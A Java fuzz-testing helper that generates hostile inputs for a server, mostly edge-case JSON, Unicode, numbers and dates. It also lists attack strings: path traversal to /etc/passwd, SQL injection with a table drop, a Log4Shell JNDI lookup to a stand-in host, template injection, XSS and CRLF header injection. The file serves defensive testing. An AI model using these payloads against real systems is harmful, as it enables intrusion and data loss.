package vn.quytrinh.server.generated;

import java.util.List;
import java.util.Random;

/** Values that a careless reader trips over. */
final class HostileValues {

    /** As they stand in JSON. */
    private static final List<String> JSON = List.of(
            "null",
            "true",
            "-1",
            "0",
            "-0.0",
            "1.5",
            "1e308",
            "1e-400",
            "1e999999999",
            "9223372036854775808",
            "123456789012345678901234567890",
            "[]",
            "{}",
            "[[]]",
            "[null]",
            "{\"\":null}",
            "\"\"",
            "\" \"",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\uFEFF\"",
            "\"\\u202e\\u2066\"",
            "\"\\r\\nX-Injected: 1\"",
            "\"\\u001b[31m\"");

    /** As a person or a program would write them. */
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "a\u0000b",
            ".",
            "..",
            "../../../../etc/passwd",
            "..\\..\\windows",
            "%2e%2e%2f",
            "' or '1'='1",
            "\"; drop table x; --",
            "${jndi:ldap://khac.test/a}",
            "#{7*7}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "Thủ tục",
            "Thủ tục",
            "Đ\u0301\u0301\u0301\u0301",
            "\uD83D\uDE00",
            "0",
            "-1",
            "2147483648",
            "1e5",
            "NaN",
            "2026",
            "10000",
            "-999999999",
            "2026-02-30",
            "2026-02-12",
            "0000-00-00",
            "9999-12-31",
            "-999999999-01-01",
            "+999999999-12-31",
            "2026-02-12T09:00:00+07:00",
            "2026-02-12T09:00",
            "2026-02-12T24:00:00Z",
            "9999-12-31T23:59:59-18:00",
            "+999999999-12-31T23:59:59.999999999+18:00",
            "-999999999-01-01T00:00:00+18:00",
            "1800-01-01T00:00:00+07:00",
            "2300-06-15T00:00:00+07:00",
            "VN",
            "H05",
            "H05.12-260212-010001",
            "H05.12-269999-010001",
            "000.00.01.H26-180601-0001",
            "ACCEPTED",
            "S01",
            "*");

    private final Random random;

    HostileValues(Random random) {
        this.random = random;
    }

    String json() {
        return switch (random.nextInt(20)) {
            case 0 -> "[".repeat(60) + "]".repeat(60);
            case 1 -> "[".repeat(3000) + "]".repeat(3000);
            case 2 -> quoted("a".repeat(1 + random.nextInt(3000)));
            case 3 -> quoted("ạ".repeat(60_000));
            case 4, 5, 6, 7, 8, 9 -> quoted(text());
            case 10 -> String.valueOf(random.nextLong());
            default -> JSON.get(random.nextInt(JSON.size()));
        };
    }

    String text() {
        if (random.nextInt(12) == 0) {
            var text = new StringBuilder();
            random.ints(random.nextInt(40), 1, 0x10FFFF)
                    .filter(point -> point < 0xD800 || point > 0xDFFF)
                    .forEach(text::appendCodePoint);
            return text.toString();
        }
        if (random.nextInt(20) == 0) {
            return "x".repeat(random.nextInt(6000));
        }
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    private static String quoted(String text) {
        var json = new StringBuilder("\"");
        text.chars()
                .forEach(unit -> json.append(
                        unit < 0x20 || unit == '"' || unit == '\\' || Character.isSurrogate((char) unit)
                                ? "\\u%04x".formatted(unit)
                                : String.valueOf((char) unit)));
        return json.append('"').toString();
    }
}
